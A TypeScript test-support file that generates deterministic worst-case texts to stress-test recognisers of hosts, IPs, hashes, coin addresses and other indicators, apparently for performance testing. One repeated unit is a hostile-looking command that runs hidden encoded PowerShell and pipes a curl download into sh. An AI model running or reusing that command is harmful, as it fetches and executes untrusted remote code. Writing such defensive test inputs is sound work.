import { randomOf } from '#e2e/support/random.ts';

const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const BECH32 = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l';
const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const HEX = '0123456789abcdef';
const ASCII = 'abcdefghijklmnopqrstuvwxyz';
const ARABIC = 'ابتثجحخدذرزسشصضطظعغفقكلمنهوي';
const HAN = String.fromCharCode(...Array.from({ length: 2000 }, (_, i) => 0x4e00 + i));

/** Repeated until the size is reached: what makes careless patterns quadratic, and what recognisers nearly accept. */
const REPEATED = [
  ...['a.', '1.', '1.1.1.', '[.]', 'a dot ', '(', '\u200b', '。', 'д.', '\\u0041'],
  ...['@', 'a@', 'a@b.co ', '::', 'a:', '1:2:', '2001:db8::1 ', 'fe80::1%eth0 ', '12:30:45 ', '00:1a:2b:3c:4d:5e '],
  ...[
    'http://',
    'http://a.co/',
    'http://a.co ',
    'http://a.co/?u=http://',
    'http%3A%2F%2Fa.co ',
    'hxxp[:]//',
    'hxxp://a[.]co ',
  ],
  ...['C:\\ ', 'C:\\a b\\', '"C:\\a ', '\\\\', '\\\\a\\b ', '/etc/', '/etc/a ', '/a/b ', '~/a ', '%a%\\b '],
  ...['HKLM\\', 'HKLM\\a ', 'arn:aws:', 'projects/', '/subscriptions/'],
  ...['CVE-', 'CVE-2021-44228 ', 'AS64500 ', 'deadbeef', 'xn--', 'xn--e1afmkfd.com ', 'a.exe ', '203.0.113.77 '],
  'cmd.exe /c "powershell -nop -w hidden -enc SQBFAFgA" && curl -s http://a.co/x | sh ',
];

type Words = (draw: { letters: (alphabet: string, length: number) => string; next: () => number }) => string;

/** Words that differ, so that nothing found once can be looked up again. */
const DISTINCT: Record<string, Words> = {
  'distinct hosts': ({ next }) => `h${next()}.evil${next()}.com`,
  'distinct short domains': ({ next }) => `${next().toString(36)}.co`,
  'distinct deep hosts': ({ next }) => `a.b.c.d.e.f.${next().toString(36)}.co.uk`,
  'distinct unknown endings': ({ letters }) => `a.q${letters(ASCII, 5)}`,
  'distinct IDN hosts': ({ next }) => `почта${next()}.рф`,
  'distinct Han hosts': ({ letters }) => `${letters(HAN, 8)}.com`,
  'distinct Arabic hosts': ({ letters }) => `${letters(ARABIC, 8)}.com`,
  'distinct punycode hosts': ({ next }) => `xn--${next().toString(36)}-7sbb.com`,
  'distinct full-width hosts': ({ next }) => `ｈ${next()}．ｃｏｍ`,
  'distinct emails': ({ next }) => `u${next()}@m${next()}.net`,
  'distinct URLs': ({ next }) => `http://h${next()}.io/a`,
  'distinct IPv6 URLs': ({ next }) => `http://[2001:db8::${next().toString(16)}]/`,
  'distinct IPv4': ({ letters }) => [1, 2, 3, 4].map(() => `${1 + letters(HEX, 1).charCodeAt(0) * 2}`).join('.'),
  'distinct IPv6': ({ letters }) => Array.from({ length: 8 }, () => `1${letters(HEX, 3)}`).join(':'),
  'distinct short IPv6': ({ next }) => `2001:db8::${(next() & 0xffff).toString(16)}`,
  'distinct 1… coins': ({ letters }) => `1${letters(BASE58, 32)}`,
  'distinct 3… coins': ({ letters }) => `3${letters(BASE58, 33)}`,
  'distinct bc1 coins': ({ letters }) => `bc1q${letters(BECH32, 38)}`,
  'distinct 0x coins': ({ letters }) => `0x${letters(HEX, 40)}`,
  'hex of 31, 32 and 33': ({ letters, next }) => letters(HEX, 31 + (next() % 3)),
  'hex of 39, 40 and 41': ({ letters, next }) => letters(HEX, 39 + (next() % 3)),
  'hex of 63, 64 and 65': ({ letters, next }) => letters(HEX, 63 + (next() % 3)),
  'distinct CVEs': ({ next }) => `CVE-2024-${10_000 + next()}`,
  'distinct registry keys': ({ next }) => `HKLM\\Software\\k${next()}`,
  'distinct files': ({ next }) => `f${next()}.dll`,
};

/** Texts of a size (UTF-16 units) that cost the most, by name: deterministic, and unlike any real log. */
export function worstInputs(size: number): [name: string, text: string][] {
  const repeated = REPEATED.map((unit): [string, string] => [
    nameOf(unit),
    unit.repeat(Math.ceil(size / unit.length)).slice(0, size),
  ]);
  const distinct = Object.entries(DISTINCT).map(([name, word]): [string, string] => [name, distinctWords(size, word)]);
  const { below } = randomOf(3);
  const base64 = Array.from({ length: size }, () => BASE64[below(64)]).join('');
  return [...repeated, ...distinct, ['one base64 run', base64]];
}

/** A unit as it would be written in code, so that what cannot be seen can be read. */
function nameOf(unit: string): string {
  const escaped = (letter: string) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`;
  return JSON.stringify(unit)
    .slice(1, -1)
    .replace(/[^ -~]/g, escaped);
}

function distinctWords(size: number, word: Words): string {
  const { below } = randomOf(5);
  let count = 0;
  const draw = {
    letters: (alphabet: string, length: number) =>
      Array.from({ length }, () => alphabet[below(alphabet.length)]).join(''),
    next: () => count++,
  };
  const parts: string[] = [];
  for (let length = 0; length < size; ) {
    const part = `${word(draw)}\n`;
    parts.push(part);
    length += part.length;
  }
  return parts.join('').slice(0, size);
}
